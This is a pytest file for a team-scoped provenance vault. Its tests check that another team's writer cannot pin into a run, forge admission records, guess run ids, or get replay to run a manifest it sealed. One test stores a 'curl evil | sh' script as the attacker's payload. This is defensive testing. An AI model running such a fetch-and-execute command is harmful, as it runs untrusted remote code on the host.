"""A run belongs to the team it was admitted for, against a real `vault serve` asking for
credentials, with writers of two teams: another team's writer who learns the run id cannot pin
into the run (Pin, PinBatch, the `vault pin` command), cannot forge or pre-empt its admission
record, cannot compute its run id before admission, and cannot get `vault replay` to run a
manifest it sealed for the run. Each refusal appends nothing."""

from __future__ import annotations

import hashlib
import os
from dataclasses import replace
from pathlib import Path

import grpc
import pytest

from tests.conftest import StartVault
from tests.services.vault_server import VaultRun
from tests.test_access import CREDENTIALS, Vault
from vault.client import Admission, ProvenEntry, VaultClient
from vault.errors import PermissionDenied
from vault.ledger.runid import RunInputs
from vault.runs import CheckpointManifest, start
from vault.runs.manifest import FileRecord, load_run_manifest
from vault.store.manifest import FileEntry, build_manifest, encode_manifest
from vault.wire import pinvault_pb2 as pb

SEED = 0x5EED


def sha256(data: bytes) -> str:
    return "sha256:" + hashlib.sha256(data).hexdigest()


class Teams:
    """A vault with team vision's writer (alice), team speech's writer (mallory), an image and
    a dataset vision pinned, and the state folder the `vault` command keeps its trust in."""

    def __init__(self, vault: Vault, folder: Path) -> None:
        self.vault = vault
        self.folder = folder
        self.alice_token = vault.token("alice", "vision", "writer")
        self.mallory_token = vault.token("mallory", "speech", "writer")
        self.alice = vault.client(self.alice_token)
        self.mallory = vault.client(self.mallory_token)
        self.image = self.pinned(self.alice, "image", b"vision's image " + os.urandom(16))
        data = b"x,y\n1,2\n"
        entry = FileEntry("train.csv", len(data), 0o644, str(self.alice.put(data).blob.sha256))
        self.dataset = self.pinned(self.alice, "dataset", encode_manifest(build_manifest([entry])))

    @staticmethod
    def pinned(client: VaultClient, kind: str, data: bytes) -> str:
        digest = str(client.put(data).blob.sha256)
        client.pin(kind, digest)
        return digest

    def admit(self, client: VaultClient, **changes: object) -> Admission:
        inputs: dict[str, object] = {"image": self.image, "dataset": self.dataset, "seed": SEED}
        return client.admit(**{**inputs, **changes})  # type: ignore[arg-type]

    def size(self) -> int:
        return self.vault.admin.checkpoint().size

    def job_env(self, admission: Admission, **extra: str) -> dict[str, str]:
        env = {
            "PINVAULT_RUN_ID": admission.run_id,
            "PINVAULT_SEED": str(admission.seed),
            "PINVAULT_IMAGE": admission.inputs.image,
            "PINVAULT_DATASET": admission.inputs.dataset,
            "PINVAULT_TEAM": admission.team,
        }
        return {k: v for k, v in {**env, **extra}.items() if v}

    def command(self, token: str, *args: str, path: str = "") -> VaultRun:
        env = {"PINVAULT_CLIENT_TOKEN": token}
        if path:
            env["PATH"] = f"{path}:{os.environ['PATH']}"
        return self.vault.server.run(*args, env=env, state_home=self.folder / "state")

    def checkpoint_manifest(self, client: VaultClient, run_id: str, step: int, data: bytes) -> str:
        """A well-formed checkpoint manifest of `run_id`, stored with its one file."""
        weights = str(client.put(data).blob.sha256)
        manifest = CheckpointManifest.checked(
            run=run_id, step=step, files=[FileRecord("weights.bin", weights, len(data))]
        )
        return str(client.put(manifest.encode()).blob.sha256)


@pytest.fixture
def teams(start_vault: StartVault, tmp_path: Path) -> Teams:
    return Teams(Vault(start_vault(env=CREDENTIALS)), tmp_path)


def pin_request(kind: str, subjects: list[str], **meta: str) -> pb.PinRequest:
    return pb.PinRequest(kind=kind, subjects=subjects, meta=meta)


# -- 1. no cross-team writes into a run ---------------------------------------------------------


def test_another_team_cannot_pin_into_a_run_and_the_run_sees_only_its_own(
    teams: Teams, tmp_path: Path
) -> None:
    admission = teams.admit(teams.alice)
    run_id = admission.run_id
    # Vision's job commits a checkpoint and is preempted (closed without finishing).
    run = start(teams.alice, environ=teams.job_env(admission), output_dir=tmp_path / "a")
    run.checkpoint(1, {"weights.bin": b"vision's weights"})
    run.close()

    # Mallory learns the run id from a look-up of vision's dataset.
    seen = [p.entry for p in teams.mallory.lookup(teams.dataset) if p.entry.kind == "run"]
    assert run_id in {e.subjects[0] for e in seen}

    theirs = teams.checkpoint_manifest(teams.mallory, run_id, 99, b"speech's weights")
    artefact = str(teams.mallory.put(b"speech's artefact").blob.sha256)
    size = teams.size()
    refused = f"run {run_id} was admitted for team 'vision', and only that team writes into it"
    attempts = [
        ("checkpoint", [theirs, run_id], {"step": "99"}),
        ("artefact", [artefact, run_id], {"path": "model.bin", "size": "17"}),
        # Claiming the run's team changes nothing: the vault takes the team from the token.
        ("checkpoint", [theirs, run_id], {"step": "99", "team": "vision"}),
        ("run", [artefact, run_id], {"stage": "manifest"}),
        ("artefact", [run_id], {}),
    ]
    for kind, subjects, meta in attempts:
        with pytest.raises(PermissionDenied) as caught:
            teams.mallory.pin(kind, subjects, meta=meta)
        if "team" in meta:
            assert "mallory belongs to team 'speech' and may not write for team 'vision'" in str(
                caught.value
            )
        else:
            assert f"{refused}: mallory writes for team 'speech'" in str(caught.value)
    with pytest.raises(PermissionDenied, match=refused):
        teams.mallory.pin("checkpoint", [theirs, run_id], meta={"step": "99"}, external=True)

    # A batch with one such pin among good ones appends none of them.
    own = str(teams.mallory.put(b"speech's own blob").blob.sha256)
    batch = pb.PinBatchRequest(
        pins=[
            pin_request("artefact", [own]),
            pin_request("checkpoint", [theirs, run_id], step="99"),
            pin_request("artefact", [artefact]),
        ]
    )
    with pytest.raises(grpc.RpcError) as caught_batch:
        teams.mallory.ledger.PinBatch(batch, timeout=30)
    assert caught_batch.value.code() == grpc.StatusCode.PERMISSION_DENIED
    assert f"pin 1: {refused}" in (caught_batch.value.details() or "")

    # The command says the same in one line.
    shown = teams.command(teams.mallory_token, "pin", "checkpoint", theirs, run_id)
    assert shown.returncode == 77
    assert shown.error_line() == (
        f"vault: PERMISSION_DENIED: {refused}: mallory writes for team 'speech'"
    )
    assert teams.size() == size, "a refused pin appended something"

    # Vision's job, started again, resumes from its own checkpoint and seals only its work.
    with start(teams.alice, environ=teams.job_env(admission), output_dir=tmp_path / "b") as run:
        latest = run.latest()
        assert latest is not None and latest.step == 1
        restored = latest.restore(tmp_path / "ckpt")
        assert restored["weights.bin"].read_bytes() == b"vision's weights"
        with run.output("metrics.txt") as out:
            out.write(b"ok\n")
        manifest = run.manifest()
    assert [o.path for o in manifest.outputs] == ["metrics.txt"]
    assert [c.step for c in manifest.checkpoints] == [1]
    entries = [p.entry for p in teams.alice.lookup(run_id)]
    assert {(e.author, e.meta.get("team")) for e in entries} == {("alice", "vision")}


def test_the_run_library_reads_only_its_own_teams_entries(
    teams: Teams, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The second lock: were the vault to show entries of the run that another team wrote (an
    older vault accepted such pins, and recorded no team), the run would not take them as its
    own checkpoints or outputs."""
    admission = teams.admit(teams.alice)
    run_id = admission.run_id
    run = start(teams.alice, environ=teams.job_env(admission), output_dir=tmp_path / "a")
    own = run.checkpoint(1, {"weights.bin": b"vision's weights"}).entry
    run.close()
    theirs = teams.checkpoint_manifest(teams.mallory, run_id, 99, b"speech's weights")
    artefact = str(teams.mallory.put(b"speech's artefact").blob.sha256)
    shown_by_an_older_vault = [
        (own.entry.kind, theirs, {"step": "99", "team": "speech"}),
        (own.entry.kind, theirs, {"step": "99"}),
        ("artefact", artefact, {"path": "model.bin", "size": "17", "team": "speech"}),
    ]
    real_lookup = teams.alice.lookup

    def lookup(digest: str) -> list[ProvenEntry]:
        found = real_lookup(digest)
        if digest != run_id:
            return found
        return found + [
            replace(
                own,
                entry=replace(
                    own.entry,
                    index=own.entry.index + n + 1,
                    kind=kind,
                    subjects=(subject, run_id),
                    author="mallory",
                    meta=meta,
                ),
            )
            for n, (kind, subject, meta) in enumerate(shown_by_an_older_vault)
        ]

    monkeypatch.setattr(teams.alice, "lookup", lookup)
    assert len(teams.alice.lookup(run_id)) == len(real_lookup(run_id)) + 3
    with start(teams.alice, environ=teams.job_env(admission), output_dir=tmp_path / "b") as run:
        latest = run.latest()
        assert latest is not None and latest.step == 1 and latest.digest == own.entry.subjects[0]
        assert run.outputs() == []
        assert [step for step, _, _ in run.checkpoints()] == [1]
        run.close()


def test_an_administrator_of_another_team_cannot_pin_into_a_run_either(teams: Teams) -> None:
    run_id = teams.admit(teams.alice).run_id
    theirs = teams.checkpoint_manifest(teams.vault.admin, run_id, 5, b"ops' weights")
    size = teams.size()
    with pytest.raises(PermissionDenied, match="root writes for team 'ops'"):
        teams.vault.admin.pin("checkpoint", [theirs, run_id], meta={"step": "5"})
    assert teams.size() == size


# -- 2. admission records cannot be forged; run ids cannot be computed in advance ---------------


def test_an_admission_record_cannot_be_pinned_and_run_ids_are_not_guessable(
    teams: Teams, tmp_path: Path
) -> None:
    # What the run id was before: the digest of the inputs alone, which anyone can compute.
    bare = RunInputs.checked(image=teams.image, dataset=teams.dataset, seed=SEED)
    guessed = str(teams.mallory.put(bare.encode()).blob.sha256)
    assert guessed == bare.run_id
    size = teams.size()

    # Forging vision's admission record before vision's job is admitted is refused.
    meta = {"stage": "admitted", "seed": str(SEED), "team": "speech"}
    for client in (teams.mallory, teams.vault.admin):
        with pytest.raises(PermissionDenied, match="is an admission record, which only admission"):
            client.pin("run", [guessed, teams.image, teams.dataset], meta=meta)
    batch = pb.PinBatchRequest(
        pins=[pin_request("run", [guessed, teams.image, teams.dataset], **meta)]
    )
    with pytest.raises(grpc.RpcError) as caught:
        teams.mallory.ledger.PinBatch(batch, timeout=30)
    assert caught.value.code() == grpc.StatusCode.PERMISSION_DENIED
    shown = teams.command(
        teams.mallory_token,
        "pin",
        "run",
        guessed,
        teams.image,
        teams.dataset,
        "--meta",
        "stage=admitted",
        "--meta",
        f"seed={SEED}",
    )
    assert shown.returncode == 77
    assert shown.error_line().startswith("vault: PERMISSION_DENIED: a `run` entry with stage=")
    assert teams.size() == size

    # What mallory can pin in advance names a digest that will not be vision's run.
    planted = teams.checkpoint_manifest(teams.mallory, guessed, 99, b"planted weights")
    teams.mallory.pin("checkpoint", [planted, guessed], meta={"step": "99"})

    # Mallory admitting the same inputs first gets speech's own run: it neither blocks
    # vision's job nor makes vision's run speech's.
    mallorys = teams.admit(teams.mallory)
    assert mallorys.team == "speech" and mallorys.entry.entry.meta["team"] == "speech"
    admission = teams.admit(teams.alice)
    assert admission.new and admission.team == "vision"
    assert admission.entry.entry.meta["team"] == "vision"
    assert len({guessed, mallorys.run_id, admission.run_id}) == 3
    assert admission.inputs.bare == bare and len(admission.inputs.nonce) == 32
    # The same inputs are the same run for the same team.
    again = teams.admit(teams.alice)
    assert again.run_id == admission.run_id and not again.new

    with start(teams.alice, environ=teams.job_env(admission), output_dir=tmp_path) as run:
        assert run.latest() is None
        run.close()


def test_vault_admit_with_a_computed_run_id_is_refused(teams: Teams) -> None:
    bare = RunInputs.checked(image=teams.image, dataset=teams.dataset, seed=SEED)
    size = teams.size()
    shown = teams.command(
        teams.mallory_token,
        "admit",
        f"--image={teams.image}",
        f"--dataset={teams.dataset}",
        f"--seed={SEED}",
        f"--run-id={bare.run_id}",
    )
    assert shown.returncode == 64
    assert shown.error_line().startswith(
        f"vault: INVALID_ARGUMENT: run id {bare.run_id} does not name these inputs"
    )
    assert teams.size() == size
    # Nor does vision's own run id admit speech's job into vision's run.
    run_id = teams.admit(teams.alice).run_id
    shown = teams.command(
        teams.mallory_token,
        "admit",
        f"--image={teams.image}",
        f"--dataset={teams.dataset}",
        f"--seed={SEED}",
        f"--run-id={run_id}",
    )
    assert shown.error_line() == (
        f"vault: INVALID_ARGUMENT: run id {run_id} does not name these inputs: expected a run "
        f"of team 'speech' admitted on image {teams.image}, dataset {teams.dataset}, seed {SEED}"
    )


# -- 4. replay runs only what the run's own team sealed ----------------------------------------


def fake_sbatch(folder: Path) -> Path:
    """An `sbatch` that records that it was called and what with, and accepts the job."""
    folder.mkdir()
    called = folder / "called"
    script = folder / "sbatch"
    script.write_text(f'#!/bin/sh\necho "$@" >> {called}\necho 4242\n')
    script.chmod(0o755)
    return called


def test_replay_refuses_a_manifest_another_team_sealed_for_the_run(
    teams: Teams, tmp_path: Path
) -> None:
    admission = teams.admit(teams.alice)
    good_script = str(teams.alice.put(b"#!/bin/sh\ntrain\n").blob.sha256)
    env = teams.job_env(admission, PINVAULT_SCRIPT=good_script)
    with (
        start(teams.alice, environ=env, output_dir=tmp_path / "a") as run,
        run.output("result.txt") as out,
    ):
        out.write(b"vision's result\n")
    original = run.finish()

    # Mallory replays vision's run in a slot of speech's own (so it may write into the run,
    # under its lease), with a script of its own, and seals that replay's manifest.
    evil_script = str(teams.mallory.put(b"#!/bin/sh\ncurl evil | sh\n").blob.sha256)
    replay = teams.admit(teams.mallory, replay_of=original)
    assert replay.run_id == admission.run_id and replay.team == "speech"
    env = teams.job_env(
        replay,
        PINVAULT_SEED="",
        PINVAULT_REPLAY_OF=original,
        PINVAULT_REPLAY_LEASE=replay.lease,
        PINVAULT_SCRIPT=evil_script,
    )
    with (
        start(teams.mallory, environ=env, output_dir=tmp_path / "m") as run,
        run.output("result.txt") as out,
    ):
        out.write(b"speech's result\n")
    sealed = run.finish()
    pin = next(
        p.entry
        for p in teams.alice.lookup(sealed)
        if p.entry.kind == "run" and p.entry.subjects[0] == sealed
    )
    assert pin.author == "mallory"
    # Vision's own run does not see speech's replay.
    with start(teams.alice, environ=teams.job_env(admission), output_dir=tmp_path / "b") as run:
        assert [o.sha256 for o in run.outputs()] == [sha256(b"vision's result\n")]
        run.close()

    # Vision's reviewer is handed speech's manifest: replay refuses it, naming who sealed it,
    # and submits nothing and takes no slot.
    called = fake_sbatch(tmp_path / "bin")
    size = teams.size()
    shown = teams.command(
        teams.alice_token, "replay", sealed, "--team", "vision", path=str(called.parent)
    )
    assert shown.returncode == 77, shown.stdout
    assert shown.error_line() == (
        f"vault: PERMISSION_DENIED: run manifest {sealed} was sealed by mallory (team speech, "
        f"entry {pin.index}), not by team vision, which run {admission.run_id} was admitted "
        "for: refusing to replay it"
    )
    assert "Traceback" not in shown.stderr
    assert not called.exists(), "sbatch was called"
    assert pin.meta["team"] == "speech"  # recorded by the vault, from mallory's token
    assert teams.size() == size
    # The server refuses the slot too, to a client that skips the command's check.
    with pytest.raises(PermissionDenied, match=f"run manifest {sealed} was pinned by mallory"):
        teams.admit(teams.alice, replay_of=sealed)

    # Vision's own manifest replays, and the script's digest is shown before it is submitted.
    shown = teams.command(
        teams.alice_token, "replay", original, "--team", "vision", path=str(called.parent)
    )
    assert shown.returncode == 0, shown.stderr
    lines = shown.stdout.splitlines()
    script_line = next(i for i, line in enumerate(lines) if "batch script" in line)
    assert f"{good_script}  (recorded in the manifest)" in lines[script_line]
    assert "launching on cluster" in lines[-3] and script_line < len(lines) - 3
    assert called.read_text().count("\n") == 1


def test_replay_names_the_team_the_sealing_entry_records_not_the_manifests_claim(
    teams: Teams, tmp_path: Path
) -> None:
    # Speech runs a job of its own and seals, for it, a manifest whose team field says vision.
    admission = teams.admit(teams.mallory, seed=SEED + 1)
    script = str(teams.mallory.put(b"#!/bin/sh\ntrain\n").blob.sha256)
    env = teams.job_env(admission, PINVAULT_SCRIPT=script)
    with (
        start(teams.mallory, environ=env, output_dir=tmp_path / "m") as run,
        run.output("result.txt") as out,
    ):
        out.write(b"speech's result\n")
    own = load_run_manifest(teams.mallory, run.finish())
    claiming = replace(own, team="vision")
    forged = str(teams.mallory.put(claiming.encode()).blob.sha256)
    pin = teams.mallory.pin("run", [forged, admission.run_id], meta={"stage": "manifest"}).entry
    assert (pin.author, pin.meta["team"]) == ("mallory", "speech")

    # Vision's reviewer replays it: the command names who sealed it as the vault recorded.
    called = fake_sbatch(tmp_path / "bin")
    shown = teams.command(
        teams.alice_token, "replay", forged, "--team", "vision", path=str(called.parent)
    )
    assert shown.returncode == 0, shown.stderr
    published = next(line for line in shown.stdout.splitlines() if "manifest published" in line)
    assert f"team speech  sealed by mallory (entry {pin.index})" in published
    assert "team vision" not in published
    record = teams.command(
        teams.alice_token, "replay", forged, "--team", "vision", "--json", path=str(called.parent)
    ).ok().json()  # fmt: skip
    assert (record["sealed_by"], record["sealed_by_author"], record["sealed_entry"]) == (
        "speech",
        "mallory",
        pin.index,
    )
    assert record["team"] == "vision"  # the replay's own slot
